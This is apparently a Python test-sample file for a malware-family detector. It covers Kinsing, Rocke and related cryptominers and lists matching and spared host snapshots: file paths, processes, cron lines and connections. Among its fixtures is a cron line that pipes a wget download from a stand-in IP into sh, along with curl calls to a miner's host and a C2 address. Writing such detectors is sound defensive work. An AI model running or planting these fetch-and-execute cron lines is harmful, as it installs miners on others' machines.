"""Samples of `davy.detect.families`: programs, remains and dummies at families' paths, and families' lines."""

from __future__ import annotations

from typing import Final

from tests.unit.detect.sample import Sample
from tests.unit.snapshots import connection, cron, known_file, known_folder, process, service, snapshot

_FETCH: Final = "wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1"
_FILE: Final = "identity.known-file"
_LINE: Final = "identity.known-line"

_REMAIN: Final = known_file("/var/tmp/kinsing", "kinsing")
_DUMMY: Final = known_file("/tmp/kdevtmpfsi", "kinsing", size=0, elf=False, mode=0o100644, immutable=True)
_FOLDER: Final = known_folder("/tmp/kdevtmpfsi", "kinsing", immutable=True)
_PLANTED: Final = known_file("/usr/bin/kswaped", "watchdog", size=2, elf=False, mode=0o100644, immutable=True)
_LOCKED: Final = known_file("/usr/sbin/kerberods", "rocke", immutable=True)

_TALKS: Final = process(101, "/tmp/abcd")

MATCHING: Final = (
    Sample(
        "network.family-address",
        "a server of Kinsing's",
        snapshot(_TALKS, connection(_TALKS, "193.33.87.219", 80)),
        _TALKS.subject,
    ),
    Sample(_LINE, "a host of Rocke's", snapshot(asks := cron("curl -s https://systemten.org/x")), asks.subject),
    Sample(_FILE, "a dead program", snapshot(_REMAIN), _REMAIN.subject),
    Sample(_FILE, "one that runs", snapshot(_REMAIN, process(100, "/var/tmp/kinsing")), _REMAIN.subject),
    Sample(_FILE, "one that is started", snapshot(_REMAIN, cron("/var/tmp/kinsing")), _REMAIN.subject),
    Sample(_FILE, "a dummy of an owner's", snapshot(_DUMMY), _DUMMY.subject),
    Sample(_FILE, "a folder in a program's place", snapshot(_FOLDER), _FOLDER.subject),
    Sample(_FILE, "a dummy of a rival's", snapshot(_PLANTED), _PLANTED.subject),
    Sample(_FILE, "a program that nobody can change", snapshot(_LOCKED), _LOCKED.subject),
    Sample(_LINE, "a line as Kinsing writes it", snapshot(line := cron(_FETCH)), line.subject),
    Sample(
        _LINE,
        "a unit of a family's name",
        snapshot(unit := service("/bin/bprofr", unit="pwnrige.service")),
        unit.subject,
    ),
)

SPARED: Final = (
    Sample("network.family-address", "an address nobody used", snapshot(connection(_TALKS, "192.0.2.80", 443))),
    Sample(
        "network.family-address",
        "a connection that ended",
        snapshot(connection(_TALKS, "193.33.87.219", 80, state="FIN_WAIT2")),
    ),
    Sample(_LINE, "an address that only begins so", snapshot(cron("curl http://193.33.87.2190/x"))),
    Sample(_LINE, "an owner's own line", snapshot(cron("curl -fsS https://hc.example.org/ping/0 > /dev/null"))),
    Sample(_LINE, "an owner who ends the miner each minute", snapshot(cron("pkill -f kdevtmpfsi; rm -f /tmp/zzz"))),
    Sample(_LINE, "a package's unit of such a name", snapshot(service("/usr/bin/x", unit="bot.service", vendor="x"))),
    Sample(
        _FILE,
        "an empty file with an ordinary name",
        snapshot(known_file("/tmp/.x", "diicot", size=0, elf=False, mode=0o100644)),
    ),
)
